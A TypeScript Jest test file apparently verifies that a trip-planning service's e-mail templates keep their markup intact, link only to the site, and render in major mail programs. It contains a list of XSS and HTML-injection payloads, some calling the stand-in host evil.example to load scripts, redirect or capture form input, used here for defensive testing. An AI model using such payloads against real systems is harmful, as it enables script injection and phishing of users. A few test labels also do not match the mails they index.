import { aTripPlanSubmitted } from '@seneb/testkit/a-trip-plan'
import { describe, expect, test } from '@jest/globals'
import { caniemail } from 'caniemail'
import { Parser } from 'htmlparser2'

import { shippedEmailTexts as texts } from '../email-texts/shipped-email-texts.js'
import { aGeneratedAiPlan } from './a-generated-ai-plan.fixture.js'
import { replyPromiseOperatorEmail } from './reply-promise-operator.email.js'
import { replyEmail } from './reply.email.js'
import { erasureNotice } from './erasure-notice.email.js'
import { lateReplyNotice } from './late-reply-notice.email.js'
import { rejectedFilesEmail } from './rejected-files.email.js'
import { tripPlanReceipt } from './trip-plan-receipt.email.js'
import type { Email } from './render-email.js'
import { staffInvitation, staffNotice, staffPasswordReset } from './staff-account.email.js'
import { partnerWithdrawalNotice } from './partner-withdrawal-notice.email.js'
import { partnerWithdrawalOperatorEmail } from './partner-withdrawal-operator.email.js'
import { tripPlanOperatorEmail } from './trip-plan-operator.email.js'
import { undeliveredReplyOperatorEmail } from './undelivered-reply-operator.email.js'

const siteUrl = 'https://seneb.example'

const aStaffLink = { name: 'Mona', token: 'secret', expiresAt: new Date('2026-11-25T09:00:00.000Z'), siteUrl }

/** Features that some programs lack; without them only ornaments, dark colors or finer line breaks are lost. */
const harmlessWhenMissing = new Set([
  '<style> element',
  '@media',
  'color-scheme CSS property',
  'color-scheme meta tag',
  'Type selector',
  'Class selector',
  'Descendant combinator',
  'border-radius',
  'background-image',
  'opacity',
  'text-decoration-line',
  'overflow-wrap',
  'word-break',
  'white-space',
  'table-layout',
  // Programs for people who listen know these; programs that do not, ignore them.
  'role attribute',
  'aria-hidden attribute',
  // React Email's own: the hidden preview line, and links that open where the program wants.
  'display:none',
  'overflow',
  'max-height property',
  'target attribute',
  '<body> element',
])

const attacks = [
  '<script>alert(1)</script>',
  '"><script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="https://evil.example/">login</a>',
  '<form action="https://evil.example"><input name=p></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<style>*{background:url(https://evil.example)}</style>',
  '</td></tr></table><h1>Approved</h1>',
  '</title><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '" onmouseover="alert(1)" x="',
  "' style='background:url(https://evil.example)' x='",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<IMG SRC="jav\tascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<![if mso]><script>alert(1)</script><![endif]>',
  '{{constructor.constructor("alert(1)")()}}',
]

/** Mails with the given text in every field that users fill in. */
function mailsWith(attack: string): Email[] {
  const freeText = { fullName: attack, companionName: attack, companionTravelNeeds: attack, insuranceCoverage: attack }
  const contact = { phoneNumber: attack, emergencyContactName: attack, emergencyContactPhone: attack }
  const trip = {
    nationality: attack,
    travelingFromCountry: attack,
    travelingFromCity: attack,
    tripDuration: attack,
    treatmentType: attack,
    medicalProcedure: attack,
    hotelPreference: attack,
    otherAccommodationType: attack,
    age: attack,
    preferredTravelDates: attack,
    numberOfNights: attack,
    additionalServices: [attack],
  }
  const personal = { ...freeText, ...contact, paymentMethod: attack, email: attack }
  const submitted = aTripPlanSubmitted({ reference: attack, trip, personal })
  const lines = [attack]
  const plan = aGeneratedAiPlan(submitted.tripPlanId, {
    summary: attack,
    beforeTravel: lines,
    afterReturn: lines,
    costNotes: lines,
    questionsForProvider: lines,
    openPoints: lines,
    days: [{ day: 1, date: attack, title: attack, details: lines }],
  })
  const submittedAt = new Date(submitted.submittedAt)
  const dueAt = submittedAt.toISOString()
  const flags = { isAssigned: false, isPersonNotified: true, person: undefined }
  const passed = { enquiryId: submitted.tripPlanId, enquiryKind: 'trip-plan', submittedAt: dueAt, dueAt } as const
  return [
    lateReplyNotice({
      ...passed,
      reference: attack,
      fullName: attack,
      timeZone: attack,
      dueAt: submittedAt,
      siteUrl,
      texts,
    }),
    rejectedFilesEmail({ files: 3, refusals: ['winmail', 'pages'], siteUrl }),
    replyPromiseOperatorEmail({ ...passed, reference: attack, threshold: 'overdue', ...flags }, siteUrl),
    erasureNotice({ reference: attack, fullName: attack, erasedAt: submittedAt, siteUrl, texts }),
    tripPlanReceipt({ reference: attack, fullName: attack, submittedAt, siteUrl, texts }),
    tripPlanReceipt({ reference: attack, fullName: attack, submittedAt, siteUrl, texts, submittedByPartner: attack }),
    partnerWithdrawalNotice({
      reference: attack,
      fullName: attack,
      withdrawnBy: attack,
      withdrawnAt: submittedAt,
      siteUrl,
      texts,
      withdrawalToken: undefined,
    }),
    partnerWithdrawalOperatorEmail(
      {
        enquiryId: passed.enquiryId,
        enquiryKind: 'trip-plan',
        reference: attack,
        withdrawnAt: dueAt,
        withdrawnBy: attack,
        contact: { fullName: attack, email: attack, phoneNumber: attack },
      },
      siteUrl,
    ),
    tripPlanOperatorEmail({ submitted, aiPlan: { plan }, siteUrl }),
    tripPlanOperatorEmail({ submitted, aiPlan: { failure: { reason: attack as never } }, siteUrl }),
    replyEmail({ subject: 'About your request (SNB-7K3M9Q)', text: attack, siteUrl }),
    undeliveredReplyOperatorEmail(
      { ...passed, replyId: passed.enquiryId, reference: attack, at: dueAt, code: attack, isAssigned: false },
      siteUrl,
    ),
  ]
}

/** The mail as a parser sees it: the elements in order with the names of their attributes, and every link. */
function shapeOf(html: string): { elements: string[]; links: string[] } {
  const shape = { elements: [] as string[], links: [] as string[] }
  const parser = new Parser({
    onopentag(name, attributes) {
      shape.elements.push(`${name} ${Object.keys(attributes).toSorted().join(' ')}`)
      if (attributes['href'] !== undefined) shape.links.push(attributes['href'])
    },
  })
  parser.end(html)
  return shape
}

describe('whatever people or the model write, the markup of an e-mail stays ours [S16, S18]', () => {
  const harmless = mailsWith('harmless').map(({ html }) => shapeOf(html))

  test('the harmless mails have elements and links to compare with', () => {
    expect(harmless.every(({ elements, links }) => elements.length > 50 && links.length > 0)).toBe(true)
  })

  test.each(attacks)('%s', (attack) => {
    const mails = mailsWith(attack)

    expect(mails.map(({ html }) => shapeOf(html).elements)).toEqual(harmless.map(({ elements }) => elements))
    const links = mails.flatMap(({ html }) => shapeOf(html).links)
    expect(links.filter((link) => !link.startsWith(siteUrl) && !link.startsWith('mailto:'))).toEqual([])
    expect(mails.filter(({ subject }) => /[^A-Za-z0-9 :()-]/.test(subject))).toEqual([])
  })
})

describe.each([
  ['notice of a late answer', mailsWith('harmless')[0]],
  ['reminder of the team', mailsWith('harmless')[1]],
  ['receipt', mailsWith('harmless')[2]],
  ['operator e-mail with a plan', mailsWith('harmless')[3]],
  ['operator e-mail without a plan', mailsWith('harmless')[4]],
  ['answer of the care team', mailsWith('harmless')[5]],
  ['word of an answer that did not arrive', mailsWith('harmless')[6]],
  ['invitation', staffInvitation(aStaffLink)],
  ['link for a new password', staffPasswordReset(aStaffLink)],
  [
    'notice',
    staffNotice({ ...aStaffLink, change: 'new-device', changedAt: aStaffLink.expiresAt, userAgent: 'Firefox' }),
  ],
] as const)('the %s', (_name, mail) => {
  const html = mail?.html ?? ''

  test('is understood by Gmail, Outlook and Apple Mail', () => {
    const clients = ['gmail.*', 'outlook.*', 'apple-mail.*'] as const
    const { issues } = caniemail({ clients: [...clients], html })

    const unknown = [...issues.errors.values()].flat().map(({ title }) => title)
    expect(unknown.filter((title) => !harmlessWhenMissing.has(title))).toEqual([])
  })

  test('declares its language and one title, and has one first-level heading with no level skipped after it', () => {
    expect(html).toMatch(/<html[^>]* lang="en"/)
    expect(html.match(/<title>/g)).toHaveLength(1)
    const levels = [...html.matchAll(/<h([1-6])/g)].map(([, level]) => Number(level))
    expect(levels.filter((level) => level === 1)).toEqual([1])
    expect(levels[0]).toBe(1)
    expect(levels.every((level, at) => at === 0 || level - (levels[at - 1] ?? 0) <= 1)).toBe(true)
  })

  test('uses tables for layout only, loads nothing, and stays below the size at which Gmail cuts', () => {
    expect(html.match(/<table/g)?.length).toBe(html.match(/<table[^>]* role="presentation"/g)?.length)
    expect(html).not.toMatch(/<img|url\(|<script|<link/)
    expect(Buffer.byteLength(html)).toBeLessThan(102_000)
  })
})

test('the mail of an enquiry with a plan of nine days takes at most 25 KB', () => {
  const details = ['A driver takes you to the clinic at the hour that you agreed on', 'Rest at your hotel', 'Free time']
  const days = Array.from({ length: 9 }, (_, at) => ({
    day: at + 1,
    date: `2027-01-0${at + 1}`,
    title: 'Visit',
    details,
  }))
  const { tripPlanId, ...submitted } = aTripPlanSubmitted()
  const plan = aGeneratedAiPlan(tripPlanId, { days, openPoints: details, questionsForProvider: details })

  const { html } = tripPlanOperatorEmail({ submitted: { tripPlanId, ...submitted }, aiPlan: { plan }, siteUrl })

  expect(Buffer.byteLength(html)).toBeLessThan(25_000)
})

test('typed text stays in the plain text, also when it looks like style markup', () => {
  const typed = 'Amal style="gone" <style>gone</style>'
  const event = aTripPlanSubmitted()
  const submitted = { ...event, personal: { ...event.personal, fullName: typed } }

  expect(tripPlanOperatorEmail({ submitted, aiPlan: { isWithheld: true }, siteUrl }).text).toContain(typed)
})
